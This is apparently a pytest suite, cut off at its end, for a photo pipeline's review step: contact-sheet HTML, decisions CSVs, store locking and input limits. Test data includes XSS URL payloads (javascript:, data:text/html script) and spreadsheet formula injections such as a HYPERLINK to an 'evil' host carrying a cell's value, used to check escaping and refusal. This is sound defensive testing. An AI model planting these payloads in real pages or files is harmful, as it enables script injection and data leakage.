"""review/ outputs, the decisions store, and the whole loop: a borderline photo waits for review,
the reviewer's decision is applied, and the next run honours it."""

from __future__ import annotations

import base64
import csv
import dataclasses
import io
import json
import os
import re
import tempfile
from html.parser import HTMLParser
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.cli import main
from pipeline.decision_table import DECISIONS, Decision
from pipeline.decisions_file import read_decisions
from pipeline.detectors.registry import load_registry
from pipeline.io.sinks import FORMULA_STARTS, csv_bytes
from pipeline.release.review import (
    DECISION_COLUMNS,
    apply_decisions,
    contact_sheet,
    review_script,
    trigger,
    write_review,
)
from tests.conftest import photo, real_jpeg, traced_peak
from tests.decision_stores import hostile_stores, read_whole, small_bounds

_BUILTIN = load_registry()
# A person detector named "x" (scores "x.person"), and open_nsfw, whose "sfw" class cannot reject.
X = dataclasses.replace(_BUILTIN["ssdlite_person"], name="x", thresholds={"person": 0.5}, review_band={"person": 0.3})
PERSON = dataclasses.replace(_BUILTIN["ssdlite_person"], thresholds={"person": 0.9}, review_band={"person": 0.6})
NSFW = dataclasses.replace(_BUILTIN["open_nsfw"], thresholds={"nsfw": 0.5}, review_band={"nsfw": 0.2})


class _Links(HTMLParser):
    """Every href/src of a page, and its text outside tags."""

    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []
        self.tags: list[str] = []
        self.text = ""

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.urls += [value or "" for name, value in attrs if name in ("href", "src")]

    def handle_data(self, data):
        self.text += data


HOSTILE_URLS = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\x01\tjavascript:alert(1)",
                "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
                "//evil.example/x", "https://ok.example/\"><script>alert(1)</script>", "https://ok.example/a b"]


def test_review_files_sorted_by_score(tmp_path):
    photos = [photo("1", image=real_jpeg("coffee.jpg"), scores=(("x.person", 0.35),), page_url="https://f/1"),
              photo("2", image=real_jpeg("chelsea.jpg"), scores=(("x.person", 0.45),))]
    entries = write_review(photos, str(tmp_path), [X])
    assert [e["path"] for e in entries] == ["review/review.parquet", "review/index.html",
                                            "review/decisions_template.csv"]
    table = pq.read_table(tmp_path / "review" / "review.parquet").to_pylist()
    assert [row["photo_id"] for row in table] == ["2", "1"] and table[0]["image"] == photos[1].image
    assert json.loads(table[1]["scores"]) == {"x.person": 0.35}
    assert (table[0]["trigger"], table[0]["trigger_score"], table[0]["trigger_threshold"]) == ("x.person", 0.45, 0.5)
    page = (tmp_path / "review" / "index.html").read_text()
    assert page.index(">2</a>") < page.index(">1</a>") and "data:image/jpeg;base64," in page
    rows = list(csv.reader((tmp_path / "review" / "decisions_template.csv").open()))
    # Each row names the image the reviewer sees: an acceptance holds for that image only
    assert rows == [["photo_id", "decision", "note", "sha256"], ["2", "", "", photos[1].sha256],
                    ["1", "", "", photos[0].sha256]]


def test_a_band_larger_than_a_page_shows_its_most_suspicious_photos_and_says_how_many_were_held(tmp_path):
    """WriteReview gathered the whole band, images included, into one worker's list: up to 17.5% of clean photos
    are held, so its memory grew with the run. It now holds at most `most` photos (MAX_REVIEW_PHOTOS), the most
    suspicious, and the page and the manifest entries say how many were held; the others stay needs_review."""
    import apache_beam as beam
    from apache_beam.testing.util import assert_that, equal_to

    from pipeline.release.review import WriteReview
    from tests.conftest import local_pipeline

    scores = {"1": 0.31, "2": 0.45, "3": 0.35, "4": 0.49, "5": 0.40}
    photos = [photo(pid, image=real_jpeg("coffee.jpg"), scores=(("x.person", score),)) for pid, score in scores.items()]
    with local_pipeline() as p:
        entries = p | beam.Create(photos) | WriteReview(str(tmp_path), [X], most=2)
        assert_that(entries | beam.Map(lambda entry: (entry["path"], entry["records"], entry["held"])),
                    equal_to([(name, 2, 5) for name in ("review/review.parquet", "review/index.html",
                                                        "review/decisions_template.csv")]))
    table = pq.read_table(tmp_path / "review" / "review.parquet").to_pylist()
    assert [row["photo_id"] for row in table] == ["4", "2"]
    assert "Borderline photos: 2 (the most suspicious 2 of 5 held" in (tmp_path / "review" / "index.html").read_text()


def test_contact_sheet_escapes_metadata():
    sheet = contact_sheet([photo("<b>", image=real_jpeg("coffee.jpg"), page_url='"><script>')]).decode()
    # The only script is the page's own, at its end; the metadata's markup is text.
    assert sheet.count("<script>") == 1 and sheet.endswith(f"<script>{review_script()}</script>")
    assert "&lt;b&gt;" in sheet and 'data-id="&lt;b&gt;"' in sheet


def test_apply_merges_later_decisions_over_earlier(tmp_path):
    store = str(tmp_path / "reviews.csv")
    first = tmp_path / "d1.csv"
    first.write_text("photo_id,decision,note\n5,accept,\n7,reject_human,reflection in window\n9,,\n")
    assert apply_decisions(str(first), store) == (2, 2)
    second = tmp_path / "d2.csv"
    second.write_text("photo_id,decision,note\n5,reject_other,watermark\n")
    assert main(["review", "apply", str(second), "--store", store]) == 0
    assert (tmp_path / "reviews.csv").read_text() == (
        "photo_id,decision,note,sha256\n5,reject_other,watermark,\n7,reject_human,reflection in window,\n")
    bad = tmp_path / "bad.csv"
    bad.write_text("photo_id,decision,note\n5,perhaps,\n")
    with pytest.raises(ValueError, match="line 2"):
        apply_decisions(str(bad), store)


def test_a_spreadsheets_csv_with_a_byte_order_mark_is_read_and_a_file_without_the_columns_refused(tmp_path):
    """Excel's "CSV UTF-8" starts with a byte order mark: the header read '\ufeffphoto_id' and every row was refused
    with an empty id. A file without a decision column was applied as no decision at all, silently."""
    store = str(tmp_path / "reviews.csv")
    marked = tmp_path / "excel.csv"
    marked.write_bytes("photo_id,decision,note\r\n5,accept,\r\n7,reject_human,café\r\n".encode("utf-8-sig"))
    assert apply_decisions(str(marked), store) == (2, 2)
    assert read_decisions(str(marked)) == {"5": ("accept", "", ""), "7": ("reject_human", "café", "")}
    headless = tmp_path / "no_decision.csv"
    headless.write_text("photo_id,verdict,note\n5,accept,\n")
    for read in (lambda path: apply_decisions(path, store), read_decisions):
        with pytest.raises(ValueError, match="no decision column"):
            read(str(headless))


def test_the_loop_through_two_runs(tmp_path):
    """Run 1 with a stricter person detector (a user registry): the astronaut falls in the band, waits
    in review/, and is out of the dataset. A reviewer accepts it; run 2 with the decisions keeps it; run 3, after
    the owner replaced the image under the same id, reviews it again."""
    from PIL import Image

    from pipeline.cli import run
    from pipeline.detectors.registry import BUILTIN_REGISTRY
    from pipeline.fixtures.demo_world import build_demo_world, demo_image, photo_path
    from pipeline.fixtures.static_server import StaticServer, image
    from tests.conftest import LOCAL

    entry = next(e for e in json.loads(BUILTIN_REGISTRY.read_text())["detectors"] if e["name"] == "ssdlite_person")
    entry.update(name="strict_person", file=str(BUILTIN_REGISTRY.parent / entry["file"]),
                 thresholds={"person": 0.995}, review_band={"person": 0.9})
    registry = tmp_path / "strict.json"
    registry.write_text(json.dumps({"detectors": [entry]}))
    with StaticServer() as server:
        metadata = build_demo_world(server, str(tmp_path))
        args = [f"--input={metadata}", f"--allowed_hosts={server.host}", f"--model_registry={registry}",
                "--detectors=strict_person", *LOCAL]
        first = run([*args, f"--output={tmp_path / 'r1'}"])
        review = pq.read_table(tmp_path / "r1" / "review" / "review.parquet").to_pylist()
        assert first["accounted"] and "1001" in {row["photo_id"] for row in review}  # the astronaut, ~0.98
        assert "1001" not in {r["photo_id"] for r in pq.read_table(tmp_path / "r1" / "parquet").to_pylist()}
        template = (tmp_path / "r1" / "review" / "decisions_template.csv").read_text()
        decisions = tmp_path / "decisions.csv"
        decisions.write_text(template.replace("1001,,", "1001,accept,spacesuit checked by a reviewer"))
        assert main(["review", "apply", str(decisions), "--store", str(tmp_path / "reviews.csv")]) == 0
        second = run([*args, f"--output={tmp_path / 'r2'}", f"--review_decisions={tmp_path / 'reviews.csv'}"])
        kept = {r["photo_id"] for r in pq.read_table(tmp_path / "r2" / "parquet").to_pylist()}
        assert second["accounted"] and "1001" in kept and second["kept"] == first["kept"] + 1
        # The owner replaces the photo's image under the same id (here: the astronaut mirrored, other bytes):
        # the acceptance was of the image the reviewer saw, so the new one is reviewed again, not kept.
        mirrored = io.BytesIO()
        Image.open(io.BytesIO(demo_image("astronaut.jpg"))).transpose(Image.Transpose.FLIP_LEFT_RIGHT).save(
            mirrored, "JPEG", quality=90)
        server.add(photo_path("1001"), image(mirrored.getvalue()))
        third = run([*args, f"--output={tmp_path / 'r3'}", f"--review_decisions={tmp_path / 'reviews.csv'}"])
    assert third["accounted"] and third["kept"] == first["kept"]
    assert "1001" not in {r["photo_id"] for r in pq.read_table(tmp_path / "r3" / "parquet").to_pylist()}
    assert "1001" in {r["photo_id"] for r in pq.read_table(tmp_path / "r3" / "review" / "review.parquet").to_pylist()}
    manifest = json.loads((tmp_path / "r1" / "manifest.json").read_text())
    assert {"review/review.parquet", "review/index.html"} <= {f["path"] for f in manifest["files"]}
    assert manifest["models"][0]["name"] == "strict_person" and manifest["models"][0]["sha256"] == entry["sha256"]


def test_review_files_are_verified_against_the_manifest(tmp_path):
    from pipeline.io.files import write_json
    from pipeline.release.verify import verify

    entries = write_review([photo("1", image=real_jpeg("coffee.jpg"), scores=(("x.person", 0.4),))], str(tmp_path), [X])
    write_json(str(tmp_path), "manifest.json", {"files": entries})
    assert list(verify(str(tmp_path))) == []
    manifest = json.loads((tmp_path / "manifest.json").read_text())
    manifest["files"][0]["records"] = 2
    (tmp_path / "manifest.json").write_text(json.dumps(manifest))
    assert [p.message for p in verify(str(tmp_path))] == ["1 records, manifest says 2"]


def test_decisions_template_neutralises_formula_ids_and_apply_refuses_them(tmp_path):
    """A photo id a spreadsheet would evaluate is written as text ('=..., quoted). No run holds such an id
    (the sources refuse it: bad_id), and applying one is refused with its row: only photo numbers are
    decided."""
    hostile = '=HYPERLINK("http://evil","x")'
    write_review([photo(hostile, image=real_jpeg("coffee.jpg"), scores=(("x.person", 0.4),))], str(tmp_path), [X])
    template = (tmp_path / "review" / "decisions_template.csv").read_text()
    assert template.splitlines()[1] == '"\'=HYPERLINK(""http://evil"",""x"")",,,'
    decisions = tmp_path / "decisions.csv"
    decisions.write_text(template.replace(",,", ",accept,looked"))
    with pytest.raises(ValueError, match=r"line 2: photo_id .* is not a Flickr photo number"):
        apply_decisions(str(decisions), str(tmp_path / "store.csv"))
    assert not (tmp_path / "store.csv").exists()


@pytest.mark.parametrize("spelled", ["7.0", "+7", "٧", "7e0", " ", "0", "../7"])
def test_a_decision_for_an_id_spelled_otherwise_is_refused_with_its_row(tmp_path, spelled):
    """'7.0' (a spreadsheet's number) was stored as it is and never matched photo 7: a reviewer's
    reject_human silently left the photo in the dataset. The line number counts the skipped rows too."""
    decisions = tmp_path / "d.csv"
    decisions.write_text(f"photo_id,decision,note\n5,,\n{spelled},reject_human,face in the window\n",
                         encoding="utf-8")
    with pytest.raises(ValueError, match="line 3: photo_id"):
        apply_decisions(str(decisions), str(tmp_path / "store.csv"))
    store = tmp_path / "hand-written.csv"
    store.write_text(f"photo_id,decision,note\n{spelled},reject_human,\n", encoding="utf-8")
    with pytest.raises(ValueError, match=r"hand-written\.csv:2: photo_id"):  # --review_decisions, at launch
        read_decisions(str(store))


def test_an_error_names_the_line_a_row_starts_on_after_a_note_of_two_lines(tmp_path):
    """The message said "row 4" for the third row when a note above it held a line break: it counts lines, so it
    says so, and the number is the line a spreadsheet or an editor shows."""
    decisions = tmp_path / "d.csv"
    decisions.write_text('photo_id,decision,note\n5,accept,"two\nlines"\n6,perhaps,\n', encoding="utf-8")
    with pytest.raises(ValueError, match=r"d\.csv: line 4: decision must be one of"):
        apply_decisions(str(decisions), str(tmp_path / "store.csv"))


def test_leading_zeros_name_the_photo(tmp_path):
    decisions = tmp_path / "d.csv"
    decisions.write_text("photo_id,decision,note\n007,reject_human,hand at the edge\n", encoding="utf-8")
    assert apply_decisions(str(decisions), str(tmp_path / "store.csv")) == (1, 1)
    assert read_decisions(str(tmp_path / "store.csv")) == {"7": ("reject_human", "hand at the edge", "")}


def test_one_file_deciding_a_photo_twice_otherwise_is_refused_naming_both_rows(tmp_path):
    """Two reviewers' files joined, or a row copied in a spreadsheet: `05,reject_human` then `5,accept` kept the
    person without a word. The same decision twice is harmless, whatever its notes."""
    decisions = tmp_path / "d.csv"
    decisions.write_text("photo_id,decision,note\n05,reject_human,face in the window\n6,accept,\n5,accept,\n")
    with pytest.raises(ValueError, match=r"line 4: photo 5 is decided otherwise at .*line 2; keep one row per photo"):
        apply_decisions(str(decisions), str(tmp_path / "store.csv"))
    assert not (tmp_path / "store.csv").exists()
    decisions.write_text("photo_id,decision,note\n05,reject_human,face\n6,accept,\n5,reject_human,a face\n")
    assert apply_decisions(str(decisions), str(tmp_path / "store.csv")) == (2, 2)
    assert read_decisions(str(tmp_path / "store.csv"))["5"] == ("reject_human", "a face", "")  # the later note
    store = tmp_path / "store.csv"
    store.write_text(store.read_text() + "5,accept,,\n")  # a store edited by hand: a run refuses it too
    with pytest.raises(ValueError, match="decided otherwise"):
        read_decisions(str(store))


@pytest.mark.parametrize("text, problem", [
    # a note opened with a quote and never closed: the rows below it became its text, their decisions lost unsaid
    ('5,accept,"looks fine\n6,reject_human,face in the window,\n7,reject_other,,\n', r"line 2: .*unexpected end"),
    ('5,accept,"fine" mostly,\n6,reject_human,,\n', r"line 2: .*expected after"),  # was read as 'fine mostly'
    ("5,accept,,\n6,reject_human,,\n", r"line 1: the column decision is named twice"),  # which one decides?
])
def test_a_decisions_file_whose_quoting_or_header_is_broken_is_refused_not_read_otherwise(tmp_path, text, problem):
    """Python's csv reader, not strict, reads an unterminated quote to the end of the file: a hand-edited decisions
    file whose note opened a quote applied its first decision and hid every later one, reject_human included, in
    that note ("1 decision(s) applied"). Text after a closing quote was glued on; a column named twice was the last
    one of that name. Each is refused with its row, by `review apply` and, in a store edited by hand, at launch."""
    header = "photo_id,decision,decision,sha256\n" if "twice" in problem else "photo_id,decision,note,sha256\n"
    decisions = tmp_path / "d.csv"
    decisions.write_text(header + text, encoding="utf-8")
    with pytest.raises(ValueError, match=problem):
        apply_decisions(str(decisions), str(tmp_path / "store.csv"))
    assert not (tmp_path / "store.csv").exists()
    with pytest.raises(ValueError, match=r"d\.csv:" + problem.removeprefix("line ")):
        read_decisions(str(decisions))


def test_two_reviewers_applying_at_once_never_lose_a_decision(tmp_path, monkeypatch):
    """`review apply` read the store, merged and wrote it back: a second apply finishing in between (two annotators
    at once) had its decisions, a reject_human here, replaced without a word, each told its decisions were applied.
    The store is held while it is read and written: the second apply is refused, and applies once the first is done;
    a lock a killed apply left is named, to be removed by hand."""
    import pipeline.release.review as review

    store = tmp_path / "reviews.csv"
    (tmp_path / "a.csv").write_text("photo_id,decision,note,sha256\n5,reject_human,face in the window,\n")
    (tmp_path / "b.csv").write_text("photo_id,decision,note,sha256\n6,accept,,\n")
    write = review.write_atomically
    refused = []

    def meanwhile(path, writer):  # A applies between B's read and B's write
        monkeypatch.setattr(review, "write_atomically", write)
        with pytest.raises(ValueError, match=r"another `review apply` is writing .*reviews\.csv") as err:
            apply_decisions(str(tmp_path / "a.csv"), str(store))
        refused.append(err.value)
        return write(path, writer)

    monkeypatch.setattr(review, "write_atomically", meanwhile)
    assert apply_decisions(str(tmp_path / "b.csv"), str(store)) == (1, 1)
    monkeypatch.undo()
    assert refused and set(read_decisions(str(store))) == {"6"}
    assert apply_decisions(str(tmp_path / "a.csv"), str(store)) == (1, 2)
    assert read_decisions(str(store))["5"].verdict == "reject_human"
    (tmp_path / "reviews.csv.lock").write_text("")
    with pytest.raises(ValueError, match=r"reviews\.csv\.lock"):
        apply_decisions(str(tmp_path / "b.csv"), str(store))


def test_the_store_is_formula_safe_and_gives_the_notes_back_as_written(tmp_path):
    """The cumulative store was written with csv.writer: a note '=HYPERLINK(...)' reached a file reviewers
    open in a spreadsheet as a live formula. Now it is '=... (quoted) on disk, the reviewer's text when read,
    and stays so over further merges."""
    note = '=HYPERLINK("http://evil/?x="&A1,"see")'
    decisions = tmp_path / "d.csv"
    decisions.write_text('photo_id,decision,note\n7,reject_other,"' + note.replace('"', '""') + '"\n'
                         "9,accept,-looks fine\n", encoding="utf-8")
    store = tmp_path / "store.csv"
    apply_decisions(str(decisions), str(store))
    first = store.read_text(encoding="utf-8")
    for row in csv.reader(io.StringIO(first)):
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row), first
    assert read_decisions(str(store)) == {"7": ("reject_other", note, ""), "9": ("accept", "-looks fine", "")}
    again = tmp_path / "d2.csv"
    again.write_text("photo_id,decision,note\n11,accept,\n", encoding="utf-8")
    apply_decisions(str(again), str(store))
    assert read_decisions(str(store)) == {"7": ("reject_other", note, ""), "9": ("accept", "-looks fine", ""),
                                          "11": ("accept", "", "")}


def test_a_decision_names_the_image_seen_and_a_malformed_sha256_is_refused_with_its_row(tmp_path):
    seen = "ab" * 32
    decisions = tmp_path / "d.csv"
    decisions.write_text(f"photo_id,decision,note,sha256\n5,accept,,{seen.upper()}\n7,reject_human,,\n")
    store = tmp_path / "store.csv"
    assert apply_decisions(str(decisions), str(store)) == (2, 2)
    assert read_decisions(str(store)) == {"5": ("accept", "", seen), "7": ("reject_human", "", "")}
    for bad in ("abc", "g" * 64, "=" + "a" * 63):
        decisions.write_text(f"photo_id,decision,note,sha256\n5,accept,,{bad}\n")
        with pytest.raises(ValueError, match=r"line 2: sha256 .* is not the sha256 of an image"):
            apply_decisions(str(decisions), str(store))
        with pytest.raises(ValueError, match=":2: sha256"):
            read_decisions(str(decisions))


def test_contact_sheet_links_only_http_urls():
    """Only an http(s) page URL becomes a link; anything else (javascript:, data:, vbscript:, in any
    case, behind whitespace or control characters) is shown as text. The only other URL on the page
    is each thumbnail, a data:image/jpeg the sheet made itself."""
    photos = [photo(str(i), image=real_jpeg("coffee.jpg"), page_url=url) for i, url in enumerate(HOSTILE_URLS)]
    photos.append(photo("99", image=real_jpeg("coffee.jpg"), page_url="https://www.flickr.com/photos/o/99"))
    page = _Links()
    page.feed(contact_sheet(photos).decode())
    page.close()
    links = [url for url in page.urls if not url.startswith("data:image/jpeg;base64,")]
    assert links == ["https://www.flickr.com/photos/o/99"]
    thumbnails = [url for url in page.urls if url.startswith("data:image/jpeg;base64,")]
    assert len(thumbnails) == len(photos)
    assert all(base64.b64decode(url.split(",", 1)[1], validate=True)[:2] == b"\xff\xd8" for url in thumbnails)
    assert page.tags.count("script") == 1 and all(url in page.text for url in HOSTILE_URLS[:3])


def test_most_suspicious_first_is_relative_to_the_threshold_of_a_class_that_can_reject(tmp_path):
    """open_nsfw's `sfw` score is about 1.0 for every safe photo and rejects nothing: it must not put
    a photo first. The person at 0.85 of a 0.9 threshold is closer to rejection than nsfw at 0.31 of
    0.5, even though 0.31 > 0.85 - 0.6 would say otherwise by distance into the band."""
    safe_but_borderline_nsfw = photo("1", image=real_jpeg("coffee.jpg"),
                                     scores=(("open_nsfw.nsfw", 0.31), ("open_nsfw.sfw", 0.99),
                                             ("ssdlite_person.person", 0.1)))
    almost_a_person = photo("2", image=real_jpeg("chelsea.jpg"),
                            scores=(("open_nsfw.nsfw", 0.05), ("open_nsfw.sfw", 0.6),
                                    ("ssdlite_person.person", 0.85)))
    specs = [PERSON, NSFW]
    assert trigger(safe_but_borderline_nsfw, specs)[:3] == ("open_nsfw.nsfw", 0.31, 0.5)
    assert trigger(almost_a_person, specs)[:3] == ("ssdlite_person.person", 0.85, 0.9)
    write_review([safe_but_borderline_nsfw, almost_a_person], str(tmp_path), specs)
    rows = list(csv.reader((tmp_path / "review" / "decisions_template.csv").open()))
    assert [row[0] for row in rows[1:]] == ["2", "1"]
    page = (tmp_path / "review" / "index.html").read_text()
    assert page.index("ssdlite_person.person 0.850 (threshold 0.900") < page.index(
        "open_nsfw.nsfw 0.310 (threshold 0.500")


def test_a_decisions_file_that_is_no_utf8_is_refused_naming_the_file_and_line(tmp_path):
    """A file saved as Latin-1 (a spreadsheet's plain "CSV") failed with the codec's error alone, naming no file."""
    store = str(tmp_path / "reviews.csv")
    latin = tmp_path / "latin1.csv"
    latin.write_bytes("photo_id,decision,note\n5,accept,\n7,reject_human,caf\u00e9\n".encode("latin-1"))
    for read in (lambda path: apply_decisions(path, store), read_decisions):
        with pytest.raises(ValueError, match=rf"^{re.escape(str(latin))}:3: not UTF-8 text \(byte 51\)"):
            read(str(latin))


def test_a_lock_an_apply_stopped_by_a_signal_left_is_taken_over(tmp_path):
    """An apply stopped where Python runs no `finally` (SIGHUP from a closed terminal or SSH session, the OOM killer)
    left STORE.lock, and every later apply was refused until someone found and removed it; the project's other locks
    take over one whose process is gone from this machine. A live apply's lock is still respected."""
    import os
    import signal
    import subprocess
    import sys
    import time

    store, decisions = tmp_path / "reviews.csv", tmp_path / "a.csv"
    decisions.write_text("photo_id,decision,note,sha256\n5,reject_human,face in the window,\n")
    child = ("import time, pipeline.release.review as review\n"
             "review.write_atomically = lambda path, writer: time.sleep(60)\n"
             f"review.apply_decisions({str(decisions)!r}, {str(store)!r})\n")
    stopped = subprocess.Popen([sys.executable, "-c", child], env={**os.environ, "PYTHONPATH": os.getcwd()})
    try:
        deadline = time.monotonic() + 30
        while not (tmp_path / "reviews.csv.lock").exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        assert (tmp_path / "reviews.csv.lock").exists()
        with pytest.raises(ValueError, match=r"another `review apply` is writing"):  # alive: held
            apply_decisions(str(decisions), str(store))
    finally:
        stopped.send_signal(signal.SIGHUP)
        stopped.wait(30)
    assert (tmp_path / "reviews.csv.lock").exists()  # left behind
    assert apply_decisions(str(decisions), str(store)) == (1, 1)
    assert read_decisions(str(store))["5"].verdict == "reject_human" and not (tmp_path / "reviews.csv.lock").exists()


def test_an_apply_stopped_by_sigterm_releases_its_lock(tmp_path):
    """SIGTERM (a scheduler's, `timeout`, a closed session's service manager) killed an apply with STORE.lock in
    place: taken over on this machine only, so on gs:// every later apply was refused until someone removed it. It
    stops as Ctrl-C does now: exit 143, the store as it was, the lock gone, and a line that says so."""
    import signal

    store, decisions = tmp_path / "reviews.csv", tmp_path / "a.csv"
    decisions.write_text("photo_id,decision,note,sha256\n5,reject_human,face in the window,\n")
    returncode, err = _apply_stopped_once(decisions, store, "review.write_atomically = lambda path, writer: "
                                          "time.sleep(60)\n", tmp_path / "reviews.csv.lock")
    assert returncode == 128 + signal.SIGTERM and "Traceback" not in err, err
    assert not (tmp_path / "reviews.csv.lock").exists() and not store.exists()
    # Its line was a run's ("nothing was published unless publishing had begun, which the next run into the output
    # finishes"): nothing an apply publishes, and nothing of the store, which is what the reviewer needs to know.
    line = err.strip().splitlines()[-1]
    assert line.startswith("pass-pipeline: stopped (SIGTERM); ") and "published" not in line, err
    assert f"{store} is as it was" in line and "its lock released" in line and "apply the decisions again" in line


def test_a_decisions_line_of_millions_of_commas_is_refused_naming_its_line(tmp_path):
    """The reader split a line of commas into a list of 8 bytes a comma (its extra cells): annotators' files come
    from outside the team, and the store is read by every run at launch."""

    decisions = tmp_path / "d.csv"
    decisions.write_text("photo_id,decision,note\n5,accept,\n6,accept," + "," * 8_000_000 + "\n", encoding="utf-8")
    _refused_in_bounded_memory(decisions, tmp_path / "store.csv", r"line 3: a line over 1,048,576 characters",
                               r"3: a line over")


def test_applying_the_blank_template_says_it_holds_no_decision(tmp_path, capsys):
    """A run's decisions_template.csv applied as written said "review: 0 decision(s) applied; STORE now holds 0",
    exit 0, and wrote an empty store: a newcomer who forgot to fill it in (or gave the wrong file) was not told."""
    template = tmp_path / "decisions_template.csv"  # as the demo's review/ holds it: ids and sha256, no decision
    sha = "19bf0d9a1078374235bc73138ea14159b2bc523d5f6bbaf11e8a3ef4ee8bddad"
    template.write_text(f"photo_id,decision,note,sha256\n1003,,,{sha}\n1006,,,{sha}\n")
    store = tmp_path / "reviews.csv"
    assert main(["review", "apply", str(template), f"--store={store}"]) == 2
    err = capsys.readouterr().err
    assert "holds no decision (every row's decision is empty" in err and len(err.strip().splitlines()) == 1, err
    assert not store.exists()
    template.write_text(f"photo_id,decision,note,sha256\n1003,accept,,{sha}\n1006,,,{sha}\n")
    assert main(["review", "apply", str(template), f"--store={store}"]) == 0 and store.exists()


def test_a_decisions_row_of_millions_of_commas_over_many_lines_is_refused_naming_its_first_line(tmp_path):
    """The bound was a line's: a quoted note's line breaks let one row run on over lines of 1 million commas each
    (`6,accept,"` then `",,,…,"`), and the reader made one list of 8 bytes a comma of all of them."""

    decisions = tmp_path / "d.csv"
    decisions.write_text('photo_id,decision,note\n5,accept,\n6,accept,"\n' + ('"' + "," * 1_000_000 + '"\n') * 8
                         + '"\n', encoding="utf-8")
    _refused_in_bounded_memory(decisions, tmp_path / "store.csv",
                               r"line 3: a row over 1,048,576 characters \(its lines 3-5", r"3: a row over")
    # a row whose note holds line breaks, within the bound, is one row as before
    decisions.write_text('photo_id,decision,note\n6,reject_other,"two\nlines"\n7,accept,\n', encoding="utf-8")
    assert read_decisions(str(decisions))["6"].note == "two\nlines"


def test_a_store_whose_lock_cannot_be_written_is_named_without_an_output_flag(tmp_path):
    """review apply has no --output: its lock's error said 'cannot write to --output STORE'."""
    decisions = tmp_path / "d.csv"
    decisions.write_text("photo_id,decision,note\n5,accept,\n", encoding="utf-8")
    (tmp_path / "file").write_text("")
    store = tmp_path / "file" / "store.csv"  # under a file: no lock can be made there
    with pytest.raises(ValueError) as refused:
        apply_decisions(str(decisions), str(store))
    message = str(refused.value)
    assert "--output" not in message and f"cannot write to {store}.lock" in message, message


def _refused_in_bounded_memory(decisions, store, by_apply: str, by_run: str) -> None:
    """`review apply` and a run's read of the store both refuse `decisions` with these messages (after its name),
    within 60 MB of Python allocations, and no store is written."""
    from tests.conftest import traced_peak

    def refuse() -> None:
        with pytest.raises(ValueError, match=rf"{decisions.name}: {by_apply}"):
            apply_decisions(str(decisions), str(store))
        with pytest.raises(ValueError, match=rf"{decisions.name}:{by_run}"):
            read_decisions(str(decisions))

    _, peak = traced_peak(refuse)
    assert peak < 60_000_000, peak
    assert not store.exists()


@pytest.mark.parametrize("under", ["file", "file/deeper"])
def test_a_store_under_a_file_is_refused_naming_the_file(tmp_path, capsys, under):
    """A --store under a regular file said "cannot write the lock of …: cannot write to STORE.lock: File exists" (or
    "Not a directory" deeper), naming neither the file nor what was wrong; it is a usage line naming the file."""
    decisions = tmp_path / "d.csv"
    decisions.write_text("photo_id,decision,note\n5,accept,\n", encoding="utf-8")
    (tmp_path / "file").write_text("notes\n")
    store = tmp_path / under / "store.csv"
    assert main(["review", "apply", str(decisions), f"--store={store}"]) == 2
    err = capsys.readouterr().err
    assert err == (f"pass-pipeline: error: --store {store} lies under {tmp_path / 'file'}, which is a file, not a "
                   "folder: name the CSV file the decisions are kept in (its folder is created if missing)\n"), err
    assert (tmp_path / "file").read_text() == "notes\n"
    assert main(["review", "apply", str(decisions), f"--store={tmp_path / 'new' / 'store.csv'}"]) == 0


def test_a_local_store_or_decisions_path_with_a_scheme_like_segment_is_checked_as_local(tmp_path, capsys):
    """`notes/a://b.csv` is a local path to Beam (no filesystem's scheme starts it), yet review apply took any "://"
    for an object store's, which has no folders or files to be under: a store under a file, or a decisions path that
    is a folder, went on to fail on the disk's own words."""
    decisions = tmp_path / "d.csv"
    decisions.write_text("photo_id,decision,note\n5,accept,\n", encoding="utf-8")
    (tmp_path / "file").write_text("notes\n")
    store = f"{tmp_path}/file/a://b/store.csv"
    assert main(["review", "apply", str(decisions), f"--store={store}"]) == 2
    assert f"--store {store} lies under {tmp_path / 'file'}, which is a file" in capsys.readouterr().err
    (tmp_path / "a:" / "b").mkdir(parents=True)
    folder = f"{tmp_path}/a://b"
    assert main(["review", "apply", folder, f"--store={tmp_path / 'store.csv'}"]) == 2
    assert f"decisions {folder} is a folder, not a CSV file" in capsys.readouterr().err
    assert (tmp_path / "file").read_text() == "notes\n" and not (tmp_path / "store.csv").exists()


def test_a_decisions_file_larger_than_any_is_refused_read_no_further(tmp_path, capsys, monkeypatch):
    """A decisions file (from annotators outside the team) or a store was read whole whatever its size: one that was
    /dev/zero, or a link to it, was read until memory ran out. Past the bound (256 MiB; here made 4 kB) it is one
    line and read no further, by `review apply` and by a run's read of the store alike."""
    from pipeline import decisions_file

    monkeypatch.setattr(decisions_file, "MAX_DECISIONS_BYTES", 4096)
    decisions, store = tmp_path / "d.csv", tmp_path / "store.csv"
    decisions.write_text("photo_id,decision,note\n" + "".join(f"{n},accept,fine\n" for n in range(1, 400)))
    assert decisions.stat().st_size > 4096
    assert main(["review", "apply", str(decisions), f"--store={store}"]) == 2
    err = capsys.readouterr().err
    assert err == f"pass-pipeline: error: {decisions}: over 4,096 bytes, more than any decisions file or store " \
                  "holds; read no further\n", err
    assert not store.exists()
    with pytest.raises(ValueError, match="over 4,096 bytes"):
        read_decisions(str(decisions))
    (tmp_path / "zero.csv").symlink_to("/dev/zero")
    assert main(["review", "apply", str(tmp_path / "zero.csv"), f"--store={store}"]) == 2
    assert "zero.csv: over 4,096 bytes" in capsys.readouterr().err and not store.exists()


def test_a_decisions_file_of_more_rows_than_its_bytes_hold_is_refused_naming_the_line(tmp_path, capsys, monkeypatch):
    """A decisions file within the byte bound of rows of a few bytes (`1,accept`, one-digit ids) was read whole: each
    row kept as an id and a decision, ~370 bytes of memory a row of 9 bytes (a 256 MiB file: 6.5 GB). Past one row per
    `DECISION_ROW_BYTES` of the file (a row as review/ writes it holds its image's sha256), `DECISION_ROW_FLOOR` in
    any file (here made 1,000), it is one line naming the row, read no further; a file of rows as the page writes them
    holds as many as its bytes allow."""
    from pipeline import decisions_file

    monkeypatch.setattr(decisions_file, "DECISION_ROW_FLOOR", 1_000)
    decisions, store = tmp_path / "d.csv", tmp_path / "store.csv"
